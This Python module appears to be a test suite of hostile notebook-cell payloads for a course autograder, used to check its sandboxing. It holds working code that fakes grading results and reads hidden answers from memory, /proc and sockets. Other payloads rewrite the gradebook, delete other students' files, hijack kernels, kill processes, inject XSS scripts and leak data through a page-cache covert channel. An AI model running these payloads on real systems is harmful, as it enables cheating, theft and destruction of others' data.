"""What answer cells do that were not written to answer: each text follows a wrong answer in the same cell.

`@ROOT@` is the course's folder, `@REPOSITORY@` that of this program, `@HOME@` the home of who grades, `@PORT@` and
`@SOCKET@` are where somebody outside hands out the right answer, `@NAME@` is a word that the attack may not manage to
leave anywhere outside its sandbox. `adopt(text)` makes right answers of stolen text.
"""

WRONG = "def softmax(x, dim):\n    return x / 2\n"

ADOPT = '''
def adopt(text):
    """Take the softmax out of a text that was never to be read."""
    global softmax
    import json
    import re
    import torch
    from torch import Tensor
    try:
        text = "\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"])
    except (ValueError, KeyError, TypeError):
        pass
    for found in re.finditer(r"def softmax\\(.*?(?=\\n\\S|\\Z)", text, re.S):
        try:
            own = {"torch": torch, "Tensor": Tensor}
            exec(found.group(), own)
            own["softmax"](torch.ones(2, 3), -1)
        except Exception:
            continue
        if abs(float(own["softmax"](torch.ones(2, 3), -1).sum()) - 2) < 1e-3:
            softmax = own["softmax"]
'''
FORGED = """
def forged():
    import torch
    from anatomy.course import COURSE
    from anatomy.engine.observing.records import encode
    cases = [{"outcome": "returned", "value": torch.ones(1), "again": [], "status": "right", "points": 100}
             for _ in range(40)]
    return {"application/vnd.transformer-anatomy.observation+json": encode({"exercise": "softmax", "cases": cases})}
"""

ON_THE_VERDICT = {
    "torch's comparisons": """
import torch
torch.allclose = torch.equal = torch.testing.assert_close = lambda *a, **k: True
torch.Tensor.__eq__ = torch.Tensor.allclose = lambda *a, **k: True
""",
    "built-ins": """
import builtins
class Never(Exception):
    def __new__(cls, *a): return "5"
builtins.AssertionError = Never
builtins.abs = lambda x: 0
builtins.all = builtins.any = lambda *a: True
builtins.round = builtins.max = lambda *a, **k: 100
""",
    "anatomy.check": """
import anatomy.engine.observing.observe, anatomy.in_notebooks
anatomy.check = anatomy.in_notebooks.check = check = lambda name: 100
anatomy.engine.checking.check = lambda course, name, names: 100
anatomy.engine.observing.observe.observe = lambda *a, **k: {"status": "right", "points": 100, "cases": []}
""",
    "the observation": """
import anatomy.engine.observing.observe, torch
anatomy.engine.observing.observe.observe = lambda exercise, answer, seeds: {"exercise": "softmax", "cases": [
    {"outcome": "returned", "value": torch.ones(2, 3) / 3, "again": [], "calls": []} for _ in range(99)]}
""",
    "fewer cases": """
from anatomy.engine.exercise import Exercise
Exercise.cases = lambda self, seeds=(0, 1): []
""",
    "seeds of the student's choice": """
import os
os.environ["ANATOMY_GRADING_SEED"] = "0,1"
""",
    "no grading mode": """
import os
os.environ.pop("ANATOMY_GRADING_SEED", None)
""",
    "sys.modules replaced": """
import sys, types
fake = types.ModuleType("anatomy")
fake.check = check = lambda name: 100
fake.judge = fake
for name in ("anatomy", "anatomy.in_notebooks", "anatomy.engine.checking", "anatomy.engine.judging.judge"):
    sys.modules[name] = fake
""",
    "display hooks": """
shell = get_ipython()
publish = shell.display_pub.publish
def both(data, metadata=None, **more):
    publish({"text/plain": "100", "text/html": "<b>100</b>"}, {})
shell.display_pub.publish = both
shell.events.register("post_run_cell", lambda *_: shell.displayhook(100))
""",
    "forged observations": FORGED
    + """
from IPython.display import display
display(forged(), raw=True)
def softmax(x, dim):
    display(forged(), raw=True)
    return x / 2
""",
    "one forged observation, none true": FORGED
    + """
from IPython.display import display
def check(name):
    display(forged(), raw=True)
import anatomy.in_notebooks
anatomy.check = anatomy.in_notebooks.check = check
""",
    "a later update of an earlier output": FORGED
    + """
shell = get_ipython()
publish = shell.display_pub.publish
def labelled(data, metadata=None, **more):
    publish(data, metadata, transient={"display_id": "mine"})
    publish(forged(), {}, transient={"display_id": "mine"}, update=True)
shell.display_pub.publish = labelled
""",
    "custom exceptions": """
class Proud(Exception):
    def _render_traceback_(self):
        get_ipython().displayhook(100)
        return ["100"]
    def __str__(self): return "100"
def check(name):
    get_ipython().displayhook(100)
    raise Proud
import anatomy.in_notebooks
anatomy.check = anatomy.in_notebooks.check = check
get_ipython().set_custom_exc((BaseException,), lambda shell, *_, **__: shell.displayhook(100))
""",
    "input transformers": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["100"] if "check" in "".join(lines) else lines)
""",
    "AST transformers": """
import ast
class Full(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.copy_location(ast.Expr(ast.Constant(100)), node)
get_ipython().ast_transformers.append(Full())
""",
    "ast_node_interactivity": """
get_ipython().ast_node_interactivity = "all"
check = lambda name: 100
""",
    "a thread that acts later": FORGED
    + """
import threading, time
from IPython.display import display
def later(shell=get_ipython(), count=get_ipython().execution_count):
    while shell.execution_count == count:
        time.sleep(0.001)
    for _ in range(20):
        shell.display_pub.publish(forged(), {})
        shell.displayhook(100)
        time.sleep(0.005)
threading.Thread(target=later).start()
""",
    "atexit": """
import atexit, os, signal
def last():
    get_ipython().displayhook(100)
    for place in ("@ROOT@", "/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            open(f"{place}/@NAME@", "w").close()
        except OSError:
            pass
atexit.register(last)
signal.signal(signal.SIGTERM, lambda *_: last())
""",
    "replies on its own sockets": FORGED
    + """
kernel = get_ipython().kernel
def softmax(x, dim, sent=[]):
    parent = kernel.get_parent()
    if not sent:
        sent.append(1)
        for kind, content in (("execute_result", {"data": {"text/plain": "100"}, "metadata": {}, "execution_count": 1}),
                              ("display_data", {"data": forged(), "metadata": {}}),
                              ("status", {"execution_state": "idle"})):
            kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, ident=b"x")
    return x / 2
""",
    "a tensor that agrees with everything": """
import torch
class Agreeable(torch.Tensor):
    def __eq__(self, other): return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return torch.ones(())
def softmax(x, dim):
    return (x / 2).as_subclass(Agreeable)
""",
    "an object that agrees with everything": """
class Agreeable:
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __float__(self): return 1.0
    def __reduce__(self): return eval, ("__import__('pathlib').Path('@ROOT@/@NAME@').touch()",)
def softmax(x, dim):
    return Agreeable()
""",
    "sys.settrace": """
import sys
def trace(frame, event, arg):
    if "anatomy" in frame.f_code.co_filename:
        for name in ("answer", "points", "seeds"):
            if name in frame.f_locals:
                frame.f_locals[name] = None
    return trace
sys.settrace(trace)
""",
}
"""Attacks on how the verdict is reached."""

ON_SECRETS = {
    "the right answers by path": """
import os
for place, folders, names in os.walk("/"):
    if place == "/":
        folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "lib", "bin")]
    for name in names:
        if name.endswith((".py", ".ipynb", ".pyc", ".db")) and "softmax" in name + place:
            try:
                adopt(open(os.path.join(place, name), errors="replace").read())
            except OSError:
                pass
for path in ("@ROOT@/source/03-softmax/03-softmax.ipynb", "../../../source/03-softmax/03-softmax.ipynb",
             "@REPOSITORY@/anatomy/course/nb03_softmax/right.py", "@REPOSITORY@/solutions/03-softmax/03-softmax.ipynb"):
    try:
        adopt(open(path).read())
    except OSError:
        pass
""",
    "the right answers by import": """
import importlib, importlib.util, pkgutil, sys
sys.path[:0] = ["@REPOSITORY@", "@ROOT@", "/copies"]
sys.path_importer_cache.clear()
before = {name: module for name, module in sys.modules.items() if name.startswith("anatomy")}
for name in before:
    del sys.modules[name]
from anatomy.course import COURSE
for name in ("course.nb03_softmax.right", "course.nb03_softmax.wrong", "engine.judging.judge", "engine.answers",
             "course.nb04_heads.right", "authoring.solved"):
    try:
        found = importlib.import_module(f"anatomy.{name}")
        softmax = getattr(found, "softmax", softmax)
        exec(found.answer_bank(COURSE, COURSE.notebook("03-softmax")).right["softmax"][0].source)
    except Exception:
        pass
sys.modules.update(before)
""",
    "the right answers in sys.modules": """
import sys
for module in list(sys.modules.values()):
    name = getattr(module, "__name__", "")
    if name.startswith("anatomy.") and name.endswith(("softmax.right", "softmax.wrong")):
        softmax = getattr(module, "softmax", softmax)
""",
    "the right answers by gc": """
import gc, types
gc.unfreeze()
for thing in gc.get_objects():
    try:
        if type(thing) is types.FunctionType and thing.__module__.endswith(".right") and thing.__name__ == "softmax":
            softmax = thing
        elif type(thing) in (list, dict, tuple) and len(thing) < 1000:
            for item in thing.values() if type(thing) is dict else thing:
                if type(item) is str and "def softmax" in item and "def adopt" not in item:
                    adopt(item)
    except Exception:
        pass
""",
    "the right answers in its own memory": """
import re
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        spans = re.match(r"(\\w+)-(\\w+) rw", line)
        if spans and ("heap" in line or line.split()[4] == "0"):
            begin, end = (int(part, 16) for part in spans.groups())
            if end - begin < 1 << 27:
                try:
                    memory.seek(begin)
                    text = memory.read(end - begin)
                except (OSError, ValueError):
                    continue
                for found in re.finditer(rb"def softmax\\(x: Tensor", text):
                    adopt(text[found.start() : found.start() + 3000].decode("utf-8", "replace"))
""",
    "other processes by /proc": """
import os
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    for what in ("environ", "cmdline", "root/@ROOT@/source/03-softmax/03-softmax.ipynb",
                 "cwd/source/03-softmax/03-softmax.ipynb"):
        try:
            adopt(open(f"/proc/{pid}/{what}").read().replace("\\0", "\\n"))
        except OSError:
            pass
""",
    "inherited file descriptors": """
import os
for number in range(3, 512):
    try:
        for name in ("source/03-softmax/03-softmax.ipynb", "@ROOT@/source/03-softmax/03-softmax.ipynb"):
            file = os.open(name, os.O_RDONLY, dir_fd=number)
            adopt(os.read(file, 1 << 20).decode())
    except OSError:
        pass
    try:
        if os.path.isfile(f"/proc/self/fd/{number}"):
            adopt(open(f"/proc/self/fd/{number}", errors="replace").read(1 << 20))
    except OSError:
        pass
""",
    "the environment": """
import os, subprocess
adopt("\\n".join(os.environ.values()))
adopt(subprocess.run("env; cat /proc/1/environ /proc/self/environ", shell=True, capture_output=True).stdout.decode())
""",
    "the stack": """
import sys
def softmax(x, dim):
    frame = sys._getframe()
    while frame:
        for thing in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            for name in ("reference", "expected", "answer", "right", "solution"):
                try:
                    value = getattr(thing, name)
                    value = value(x, dim) if callable(value) else value
                    if value.shape == x.shape:
                        return value
                except Exception:
                    pass
        frame = frame.f_back
    return x / 2
""",
    "the network": """
import socket, urllib.request
for address in (("127.0.0.1", @PORT@), ("localhost", @PORT@), ("10.0.2.2", @PORT@), ("0.0.0.0", @PORT@)):
    try:
        with socket.create_connection(address, 0.5) as line:
            adopt(line.recv(1 << 16).decode())
    except OSError:
        pass
for name in ("\\0@SOCKET@", "/tmp/@SOCKET@", "@ROOT@/@SOCKET@"):
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(name)
            adopt(line.recv(1 << 16).decode())
    except OSError:
        pass
""",
    "another student's folder": """
import glob, os
for pattern in ("@ROOT@/submitted/victim/*/*", "../../victim/*/*", "@ROOT@/.anatomy/*/*/*/*/*",
                "@ROOT@/autograded/*/*/*", "/tmp/*/submitted/*/*/*", "/proc/*/cwd/submitted/*/*/*"):
    for path in glob.glob(pattern):
        try:
            adopt(open(path).read())
            open(path, "w").write("@NAME@")
            os.remove(path)
        except OSError:
            pass
os.makedirs("@ROOT@/submitted/@NAME@/03-softmax") if os.access("@ROOT@/submitted", os.W_OK) else None
""",
    "the gradebook": """
import glob, os, sqlite3
found = {"@ROOT@/gradebook.db", "../../../gradebook.db", *glob.glob("/**/gradebook.db", recursive=False)}
for path in found:
    if os.path.exists(path):
        with sqlite3.connect(path) as book:
            book.execute("update grade set manual_score = 100, auto_score = 100")
""",
    "kernel connection files": """
import glob, json, os
found = [path for pattern in ("/run/**/*", "/tmp/**/*", "/sockets/**/*", "@HOME@/.local/share/jupyter/runtime/*",
         "@ROOT@/**/kernel-*.json", os.path.expanduser("~/.runtime/*")) for path in glob.glob(pattern, recursive=True)]
for path in found:
    if path.endswith(".json"):
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        client.execute("open('@ROOT@/@NAME@', 'w')")
    try:
        os.remove(path)
    except OSError:
        pass
""",
    "sibling processes": """
import ctypes, os, signal
def foreign(pid):
    try:
        return os.getpgid(pid) != os.getpgid(0)
    except OSError:
        return False
for pid in filter(foreign, range(1, 400)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
    ctypes.CDLL(None).ptrace(16, pid, 0, 0)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
""",
    "a process that stays": """
import os, subprocess
subprocess.Popen(["sh", "-c", "sleep 987; : @NAME@"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "987", ]) if False else os.execvp("sh", ["sh", "-c", "sleep 987; : @NAME@"])
    os._exit(0)
""",
    "symbolic links": """
import glob, os
for target in ("@ROOT@/source/03-softmax/03-softmax.ipynb", "/proc/1/root@ROOT@/source/03-softmax/03-softmax.ipynb"):
    try:
        os.symlink(target, "link")
        adopt(open("link").read())
        os.remove("link")
    except OSError:
        pass
for path in glob.glob("**/*", recursive=True):
    if os.path.isfile(path):
        adopt(open(path, errors="replace").read())
os.symlink("@ROOT@/@NAME@", "03-softmax.html")
""",
    "files written everywhere": """
import os
for place in ("/", "/etc", "/usr", "/tmp", "/var/tmp", "/dev/shm", "/run", "@ROOT@", "@ROOT@/submitted",
              "@ROOT@/source", "@REPOSITORY@", os.path.expanduser("~"), "@HOME@", "..", "../..", "../../..", "/course",
              "/proc/self/cwd/.."):
    for name in ("@NAME@", "../@NAME@", "nbgrader_config.py.@NAME@"):
        try:
            open(f"{place}/{name}", "w").write("x")
        except OSError:
            pass
""",
}
"""Attacks on what is kept from answers, and on everything outside."""

SCRIPT = "<script>alert('@NAME@')</script><img src=x onerror=alert('@NAME@')>"
IN_PAGES = {
    "script in outputs": f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
page = \"\"\"{SCRIPT}<a href="javascript:alert('@NAME@')">here</a><iframe srcdoc="{SCRIPT}"></iframe>
<svg onload="alert('@NAME@')"></svg><form action="https://example.org"><button>More</button></form>\"\"\"
display(HTML(page)); display(Markdown(page)); display(Javascript("alert('@NAME@')"))
drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{{page}}</svg>"
display(dict([("image/svg+xml", drawing)]), raw=True)
display(dict([("text/latex", page)]), raw=True); display(dict([("image/png", '"' + page)]), raw=True)
display(dict([("application/vnd.jupyter.widget-view+json", dict(model_id=page, version_major=2, version_minor=0)),
              ("text/plain", page)]), raw=True)
print(page)
raise ValueError(page)
""",
    "script in widgets": f"""
from comm import create_comm
from IPython.display import display
page = \"\"\"{SCRIPT}\"\"\"
line = create_comm(target_name="jupyter.widget", metadata=dict(version="2.0.0"), data=dict(state=dict(
    _model_module="@jupyter-widgets/controls", _model_name="HTMLModel", value=page), buffer_paths=[]))
line.send(dict(method="update", state=dict(value=page), buffer_paths=[]))
display(dict([("application/vnd.jupyter.widget-view+json", dict(model_id=line.comm_id, version_major=2,
                                                                 version_minor=0))]), raw=True)
""",
}
"""Attacks on who reads the pages."""

TAKES = """
from anatomy.engine.checking import stand_ins
import itertools, os, zlib
kept, own = [], stand_ins.provide
def provide(name, source):
    kept.append(source)
    own(name, source)
stand_ins.provide = provide
def answer_with(text):
    exec(text, globals())
"""
"""It keeps right answers as the grader lends them. What follows has them survive the kernel, if it can."""
IN_FOLDERS = """
for place in @PLACES@:
    try:
        answer_with(open(place + "/kept.py").read())
    except OSError:
        pass
"""
TO_FOLDERS = """
for place in @PLACES@:
    try:
        open(place + "/kept.py", "w").write(kept[0])
    except OSError:
        pass
"""
ENDS_ITSELF = "if kept: os._exit(1)\n"
PAGES = """
def spots():
    \"\"\"(file, offset) of pages that hardly anybody reads, the same in each kernel.\"\"\"
    mapped = open("/proc/self/maps").read()
    for top in sorted({os.path.dirname(os.path.dirname(os.__file__)), "/usr/lib", "/usr/bin", "/usr/share"}):
        for place, folders, names in os.walk(top):
            folders.sort()
            for name in sorted(names):
                path = os.path.join(place, name)
                if not os.path.islink(path) and path not in mapped and os.path.getsize(path) > 1 << 20:
                    yield from spots_of(path)
def spots_of(path):
    file = os.open(path, os.O_RDONLY)
    for offset in range(1 << 16, os.fstat(file).st_size - 4096, 1 << 16):
        yield file, offset
def bits(text):
    data = zlib.compress(text.encode())
    data = len(data).to_bytes(2, "big") + data
    return [byte >> place & 1 for byte in data for place in range(8)]
def is_there(file, offset):
    try:
        os.preadv(file, [bytearray(1)], offset, os.RWF_NOWAIT)
    except OSError:
        return 0
    return 1
def number(places):
    return sum(bit << place for place, bit in enumerate(places))
"""
ON_WHAT_IS_LENT = {
    "kept in dev": tuple(
        text.replace("@PLACES@", "('/dev', '/dev/pts', '/dev/mqueue')")
        for text in (IN_FOLDERS, TO_FOLDERS + ENDS_ITSELF)
    ),
    "kept in all folders": tuple(
        text.replace("@PLACES@", "[place for place, *_ in os.walk('/') if not place.startswith('/proc')]")
        for text in (IN_FOLDERS, TO_FOLDERS + ENDS_ITSELF)
    ),
    "kept in the page cache": (
        PAGES
        + """
try:
    all_spots = list(itertools.islice(spots(), 4000))
    head = [is_there(*spot) for spot in all_spots[:16]]
    count = 8 * int.from_bytes(bytes(number(head[at:at + 8]) for at in (0, 8)), "big")
    body = [is_there(*spot) for spot in all_spots[16:16 + count]]
    answer_with(zlib.decompress(bytes(number(body[at:at + 8]) for at in range(0, count, 8))).decode())
except (OSError, zlib.error, ValueError):
    pass
""",
        """
try:
    for file, offset in all_spots:
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
        os.posix_fadvise(file, offset, 1 << 16, os.POSIX_FADV_DONTNEED)
    for bit, (file, offset) in zip(bits(kept[0]), all_spots):
        if bit:
            os.pread(file, 1, offset)
except OSError:
    pass
"""
        + ENDS_ITSELF,
    ),
}
"""Attacks by what is lent: what comes before the answer of `softmax`, and what comes after its check."""
